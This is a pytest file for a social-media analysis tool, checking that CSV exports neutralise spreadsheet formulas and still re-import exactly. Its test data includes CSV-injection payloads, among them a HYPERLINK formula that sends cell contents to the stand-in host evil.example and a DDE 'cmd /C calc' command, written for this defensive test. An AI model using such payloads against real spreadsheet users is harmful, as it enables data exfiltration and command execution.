"""CSV exports neutralise spreadsheet formulas (issue #16, item 6), and still import back."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import orjson
import pytest

from influscope.ingest.files.formulas import neutralise, restore
from influscope.workspace import Workspace

# text -> what a neutralised CSV cell holds
TEXTS = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "=1+2": "'=1+2",
    "-2+3": "'-2+3",
    "@united thanks": "'@united thanks",
    "\tTAB first": "'\tTAB first",
    "\rCR first": "'\rCR first",
    "'=already quoted": "''=already quoted",
    "-12.5": "-12.5",  # a negative number is no formula
    "+33": "+33",
    "plain text = fine": "plain text = fine",
    "'just a quote": "'just a quote",
}


@pytest.mark.parametrize(("text", "cell"), list(TEXTS.items()))
def test_neutralise_and_restore(text: str, cell: str) -> None:
    assert neutralise(text) == cell
    assert restore(neutralise(text)) == text


def _workspace(root: Path) -> Workspace:
    posts = root.parent / "posts.jsonl"
    with posts.open("wb") as handle:
        for i, text in enumerate(TEXTS, start=1):
            record = {"id": str(i), "platform": "web", "author": "@mallory", "text": text}
            handle.write(orjson.dumps(record | {"likes": i}) + b"\n")
    ws = Workspace.init(root)
    assert ws.ingest.files([posts]).rejected == 0
    return ws


def _cells(data: str, column: str) -> dict[str, Any]:
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    return {row["native_id"]: row[column] for row in rows}


def test_export_csv_quotes_formulas_numbers_stay_numbers(tmp_path: Path) -> None:
    with _workspace(tmp_path / "ws") as ws:
        out = io.BytesIO()
        ws.data.export("documents", out, fmt="csv")
        raw = io.BytesIO()
        ws.data.export("documents", raw, fmt="csv", raw_csv=True)
    texts = _cells(out.getvalue().decode(), "text")
    assert [texts[str(i)] for i in range(1, len(TEXTS) + 1)] == list(TEXTS.values())
    likes = _cells(out.getvalue().decode(), "likes")
    assert [likes[str(i)] for i in range(1, len(TEXTS) + 1)] == [
        str(i) for i in range(1, len(TEXTS) + 1)
    ]
    authors = set(_cells(out.getvalue().decode(), "author_id").values())
    assert authors == {"web:mallory"}
    untouched = _cells(raw.getvalue().decode(), "text")
    assert [untouched[str(i)] for i in range(1, len(TEXTS) + 1)] == list(TEXTS)


def test_a_neutralised_export_imports_back_exactly(tmp_path: Path) -> None:
    export = tmp_path / "documents.csv"
    with _workspace(tmp_path / "ws") as ws:
        ws.data.export("documents", export, fmt="csv")
    with Workspace.init(tmp_path / "again") as again:
        assert again.ingest.files([export]).rejected == 0
        docs = again.store.to_arrow(again.store.table("documents")).to_pylist()
    assert sorted(d["text"] for d in docs) == sorted(TEXTS)


def test_query_csv_quotes_formulas(cli: Any, tmp_path: Path) -> None:
    _workspace(cli.root).close()
    code, out, _ = cli("query", "fine OR calc OR thanks", "--format", "csv")
    assert code == 0
    texts = set(_cells(out.replace("doc_id", "native_id", 1), "text").values())
    assert texts == {"'+cmd|' /C calc'!A0", "'@united thanks", "plain text = fine"}
    code, out, _ = cli("query", "fine OR calc OR thanks", "--format", "csv", "--raw-csv")
    texts = set(_cells(out.replace("doc_id", "native_id", 1), "text").values())
    assert texts == {"+cmd|' /C calc'!A0", "@united thanks", "plain text = fine"}


def test_cli_export_flag(cli: Any, tmp_path: Path) -> None:
    _workspace(cli.root).close()
    code, out, _ = cli("export", "documents", "--fields", "native_id,text")
    assert code == 0 and _cells(out, "text")["3"] == "'=1+2"
    code, out, _ = cli("export", "documents", "--fields", "native_id,text", "--raw-csv")
    assert code == 0 and _cells(out, "text")["3"] == "=1+2"
